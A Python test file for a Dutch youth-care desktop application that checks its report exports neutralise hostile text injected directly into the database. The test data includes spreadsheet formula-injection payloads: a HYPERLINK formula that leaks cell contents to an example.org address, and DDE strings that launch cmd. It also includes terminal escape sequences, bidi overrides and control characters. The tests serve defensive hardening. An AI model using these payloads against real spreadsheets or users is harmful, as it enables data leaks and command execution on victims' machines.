"""Bad text already in a store (issue 9, "Exports and bad text"): every XLSX and CSV export writes
text as text (no live formula), and every export — the four PDFs, the XLSX, CSV, JSON and text
tables — is written whatever a name, school, consulent or organisation holds: formulas, NUL and
other control characters, terminal escapes, bidi overrides, markup, 5,000 characters.

The services refuse most of this at input now (tests/services/test_tekst_invoer.py), so the data
is put in with direct UPDATEs, as an older version, an import or a hand-edited store could have.
"""

import csv
import io
import json
from datetime import date, datetime

import openpyxl
import pytest
from pypdf import PdfReader
from sqlalchemy import update

from jet_desktop.reports import caseloadoverzicht, monitor, wachtlijstrapport
from jet_desktop.reports.matched_care import bereken as bereken_mc
from jet_desktop.reports.matched_care_export import write_matched_care
from jet_desktop.services import audit, settings
from jet_desktop.storage.models import Aanmelding, Jeugdige, Medewerker, Toewijzing

VANDAAG = date(2026, 11, 25)
VAN, TOT = date(2026, 1, 1), date(2026, 12, 31)

HYPERLINK = '=HYPERLINK("http://example.org/?"&A1,"Klik hier")'
FORMULES = [HYPERLINK, "+31 6 12345678", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1",
            "\r=1+1", " =1+1"]
SLECHT = {
    "formule": HYPERLINK,
    "nul_en_stuurtekens": "Ann\x00a\x07 de\x0b Vr\x1fies\x7f\x85",
    "terminal_escape": "\x1b[2J\x1b]0;gehackt\x07Jansen",
    "bidi": "Anna \u202egnirpS\u202c \u2066x\u2069",
    "markup": "<font size=40>Groot</font> & <b>Zn</b> <para>",
    "lang_met_spaties": "Abcdefghij " * 500,
    "lang_een_woord": "A" * 5000,
    "regeleinden": "Regel\n" * 400,
}


def _zet(store, table, row_id, **values):
    with store.engine.begin() as conn:
        conn.execute(update(table).where(table.c.id == row_id).values(**values))


def _vul(store, jet, tekst: str) -> dict:
    """A consulent, a dossier with two toewijzingen (opschaling and stapeling: the team lists) and a
    waiting aanmelding; then names, school, verwijzer, consulent and organisation set to `tekst`."""
    c = jet.consulent(store, "Anna Bos")
    d = jet.dossier(store, c, voornaam="Daan", achternaam="Visser", school="De Wieken",
                    geopend_op=date(2026, 11, 2))
    wacht = jet.wachtend(store, voornaam="Eva", achternaam="Smit", school="Het Anker")
    for start, intensiteit in ((date(2026, 11, 3), "licht"), (date(2026, 11, 20), "zwaar")):
        with store.engine.begin() as conn:
            conn.execute(Toewijzing.__table__.insert().values(store.new_row(
                dossier_id=d, productcategorie="45", product=tekst, intensiteit=intensiteit, aanbieder="fjild",
                startdatum=start, einddatum=None, geschatte_kosten=1000, contractvorm="profiel", dvo_motivering="")))
    J, A, M = Jeugdige.__table__, Aanmelding.__table__, Medewerker.__table__
    with store.engine.begin() as conn:
        conn.execute(update(J).values(voornaam=tekst, tussenvoegsel="", achternaam=tekst, school=tekst))
        conn.execute(update(A).values(verwijzer_organisatie=tekst, steunfiguur_naam=tekst))
    _zet(store, M, c, naam=tekst)
    with store.engine.begin() as conn:  # past the validation of settings.put
        settings._write(conn, store, "organisatie_naam", tekst)
        settings._write(conn, store, "team_naam", tekst)
    settings.put(store, "rapport_naamweergave", "namen")
    store.user = tekst  # "Afgedrukt door", the audit lines
    return {"consulent": c, "dossier": d, "wachtend": wacht}


def _alle_cellen(data: bytes):
    wb = openpyxl.load_workbook(io.BytesIO(data))
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.value is not None:
                    yield ws.title, cell


def _xlsx_exports(store) -> dict[str, bytes]:
    out = {}
    buf = io.BytesIO()
    caseloadoverzicht.maak(store, buf, "xlsx", VANDAAG)
    out["caseloadoverzicht"] = buf.getvalue()
    mc = bereken_mc(store, VAN, TOT)
    for naam, kw in (("matched care team", {"voor_team": True}), ("matched care management", {})):
        buf = io.BytesIO()
        write_matched_care(mc, "xlsx", buf, **kw)
        out[naam] = buf.getvalue()
    buf = io.BytesIO()
    monitor.write_monitor(monitor.bereken(store, VAN, TOT), "xlsx", buf)
    out["monitor"] = buf.getvalue()
    return out


# --- formulas -------------------------------------------------------------------------------


@pytest.mark.parametrize("formule", FORMULES)
def test_every_xlsx_export_writes_formula_like_text_as_text(sqlite_store, jet, formule):
    _vul(sqlite_store, jet, formule)
    for export, data in _xlsx_exports(sqlite_store).items():
        cellen = list(_alle_cellen(data))
        assert not [c.coordinate for _, c in cellen if c.data_type == "f"], export  # no formula anywhere
        zoek = formule.replace("\r", "\n")  # XML reads a carriage return as a newline
        gevonden = [c for _, c in cellen if isinstance(c.value, str) and zoek.strip() in c.value]
        assert gevonden, f"{export}: the text is not in the file"
        for c in gevonden:
            assert c.data_type == "s", (export, c.coordinate)
            if c.value.startswith("="):
                assert c.quotePrefix, (export, c.coordinate)  # stays text when the cell is edited in Excel


def test_numbers_stay_numbers_in_xlsx(sqlite_store, jet):
    _vul(sqlite_store, jet, HYPERLINK)
    data = _xlsx_exports(sqlite_store)["caseloadoverzicht"]
    ws = openpyxl.load_workbook(io.BytesIO(data))["Samenvatting"]
    rij = next(r for r in ws.iter_rows() if r[0].value == HYPERLINK)
    assert [c.data_type for c in rij[1:6]] == ["n"] * 5  # FTE, capacity, active, room, second person


def test_the_hyperlink_formula_of_the_issue_is_no_link_in_matched_care(sqlite_store, jet):
    _vul(sqlite_store, jet, HYPERLINK)
    data = _xlsx_exports(sqlite_store)["matched care management"]
    ws = openpyxl.load_workbook(io.BytesIO(data))["Per school"]
    school = [c for r in ws.iter_rows() for c in r if c.value == HYPERLINK]
    assert len(school) == 1 and school[0].data_type == "s" and school[0].hyperlink is None


def test_audit_csv_prefixes_formula_like_text_with_a_quote(sqlite_store, jet):
    _vul(sqlite_store, jet, HYPERLINK)  # the medewerker of the audit lines is the formula
    audit.log(sqlite_store, audit.AuditActie.OPENEN, "dossier", omschrijving="gewoon")
    sqlite_store.user = "-2+3"
    audit.log(sqlite_store, audit.AuditActie.OPENEN, "dossier", omschrijving="=1+1")
    sqlite_store.user = "'al een aanhalingsteken"
    audit.log(sqlite_store, audit.AuditActie.OPENEN, "dossier", omschrijving="@SUM(A1)")
    buf = io.StringIO()
    audit.exporteer_csv(sqlite_store, buf)
    rows = list(csv.reader(io.StringIO(buf.getvalue().lstrip("\ufeff")), delimiter=";"))
    kop, body = rows[0], rows[1:]
    med, oms = kop.index("Medewerker"), kop.index("Omschrijving")
    cellen = [c for r in body for c in r]
    assert not [c for c in cellen if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert "'" + HYPERLINK in [r[med] for r in body]
    assert ["'-2+3", "'=1+1"] in [[r[med], r[oms]] for r in body]
    # a text that itself starts with a quote gets one more, so removing one quote restores every value
    assert ["''al een aanhalingsteken", "'@SUM(A1)"] in [[r[med], r[oms]] for r in body]
    assert all(r[0].isdigit() for r in body)  # volgnummers stay numbers


def test_monitor_csv_neutralises_text_and_keeps_numbers(sqlite_store):
    from types import SimpleNamespace

    u = monitor.bereken(sqlite_store, VAN, TOT)
    rij = {**u.rij_dicts()[0], "toegangsvorm": "=1+1", "afgesloten_trajecten": -5}  # a text, a negative number
    tekst = monitor.as_csv_text(SimpleNamespace(van=u.van, tot=u.tot, rij_dicts=lambda _d: [rij]))
    rows = list(csv.reader(io.StringIO(tekst)))
    kop = rows[0]
    assert rows[1][kop.index("toegangsvorm")] == "'=1+1"
    assert rows[1][kop.index("afgesloten_trajecten")] == "-5"  # a number, not "'-5"


def test_monitor_csv_of_a_real_store_is_unchanged(sqlite_store, jet):
    _vul(sqlite_store, jet, HYPERLINK)
    rows = list(csv.reader(io.StringIO(monitor.as_csv_text(monitor.bereken(sqlite_store, VAN, TOT)))))
    assert rows[1][:3] == ["2026-01-01", "2026-12-31", "POH Jeugd"] and not any("'" in c for r in rows for c in r)


# --- robust to whatever is in the store -------------------------------------------------------


def _pdfs(store) -> dict[str, bytes]:
    out = {}
    buf = io.BytesIO()
    wachtlijstrapport.maak_pdf(store, buf, VANDAAG, afgedrukt_op=datetime(2026, 11, 25, 9, 0))
    out["wachtlijstrapport"] = buf.getvalue()
    buf = io.BytesIO()
    caseloadoverzicht.maak(store, buf, "pdf", VANDAAG, afgedrukt_op=datetime(2026, 11, 25, 9, 0))
    out["caseloadoverzicht"] = buf.getvalue()
    buf = io.BytesIO()
    monitor.write_monitor(monitor.bereken(store, VAN, TOT), "pdf", buf)
    out["monitor"] = buf.getvalue()
    buf = io.BytesIO()
    write_matched_care(bereken_mc(store, VAN, TOT), "pdf", buf, voor_team=True, organisatie=store.user,
                       team=store.user, afgedrukt_door=store.user)
    out["matched care"] = buf.getvalue()
    return out


@pytest.mark.parametrize("soort", sorted(SLECHT))
def test_every_export_is_written_whatever_the_text(sqlite_store, jet, soort, capsys):
    tekst = SLECHT[soort]
    _vul(sqlite_store, jet, tekst)
    for export, data in _pdfs(sqlite_store).items():
        reader = PdfReader(io.BytesIO(data))
        assert len(reader.pages) >= 1, export
        assert "pagina 1 van" in reader.pages[0].extract_text(), export
    for export, data in _xlsx_exports(sqlite_store).items():
        for blad, cel in _alle_cellen(data):
            if isinstance(cel.value, str):
                assert len(cel.value) <= 32_767 and not any(ord(ch) < 32 and ch not in "\t\n\r" for ch in cel.value), \
                    (export, blad, cel.coordinate)
                assert not any("\u202a" <= ch <= "\u202e" or "\u2066" <= ch <= "\u2069" for ch in cel.value)
    mc = bereken_mc(sqlite_store, VAN, TOT)
    for fmt in ("json", "table"):
        buf = io.StringIO()
        write_matched_care(mc, fmt, buf, voor_team=True)
        if fmt == "json":
            json.loads(buf.getvalue())
        else:
            assert "\x1b" not in buf.getvalue() and "\x00" not in buf.getvalue()  # nothing for the terminal
    u = monitor.bereken(sqlite_store, VAN, TOT)
    for fmt in ("json", "csv", "table"):
        monitor.write_monitor(u, fmt, io.StringIO())
    buf = io.StringIO()
    audit.exporteer_csv(sqlite_store, buf)
    # nothing of the text went to the console (a traceback used to print the child's name)
    uit = capsys.readouterr()
    assert tekst[:20] not in uit.err and tekst[:20] not in uit.out


def test_markup_in_a_name_is_printed_as_written(sqlite_store, jet):
    _vul(sqlite_store, jet, SLECHT["markup"])
    for export in ("wachtlijstrapport", "caseloadoverzicht"):
        text = "".join(p.extract_text() for p in PdfReader(io.BytesIO(_pdfs(sqlite_store)[export])).pages)
        assert "<font size=40>Groot</font>" in text.replace("\n", " "), export


def test_a_5000_character_name_is_cut_with_an_ellipsis_not_lost(sqlite_store, jet):
    _vul(sqlite_store, jet, SLECHT["lang_met_spaties"])
    pdf = _pdfs(sqlite_store)["wachtlijstrapport"]
    text = "".join(p.extract_text() for p in PdfReader(io.BytesIO(pdf)).pages)
    assert "Abcdefghij Abcdefghij" in text and "…" in text
    assert len(PdfReader(io.BytesIO(pdf)).pages) <= 3  # two rows, not pages of one name


def test_control_characters_become_a_visible_replacement_in_xlsx(sqlite_store, jet):
    _vul(sqlite_store, jet, SLECHT["nul_en_stuurtekens"])
    data = _xlsx_exports(sqlite_store)["caseloadoverzicht"]
    waarden = [c.value for _, c in _alle_cellen(data) if isinstance(c.value, str)]
    assert "Ann\ufffda\ufffd de\ufffd Vr\ufffdies\ufffd\ufffd" in waarden


def test_a_layout_error_never_carries_the_text():
    """Defence in depth: should any flowable still not fit a page, reportlab's LayoutError (whose
    message quotes the flowable, names included) becomes a Dutch error without the text."""
    from reportlab.platypus import Paragraph, Table

    from jet_desktop.reports.pdf import STYLES, RapportFout, ReportMeta, build_pdf

    meta = ReportMeta("Test", "Gemeente", "Team", "Anne", datetime(2026, 11, 25, 9, 0))
    reus = Table([[Paragraph("Daan de Visser " * 3000, STYLES["cell"])]])
    with pytest.raises(RapportFout) as e:
        build_pdf(io.BytesIO(), meta, [reus])
    assert "Daan" not in str(e.value) and e.value.__cause__ is None and e.value.__suppress_context__
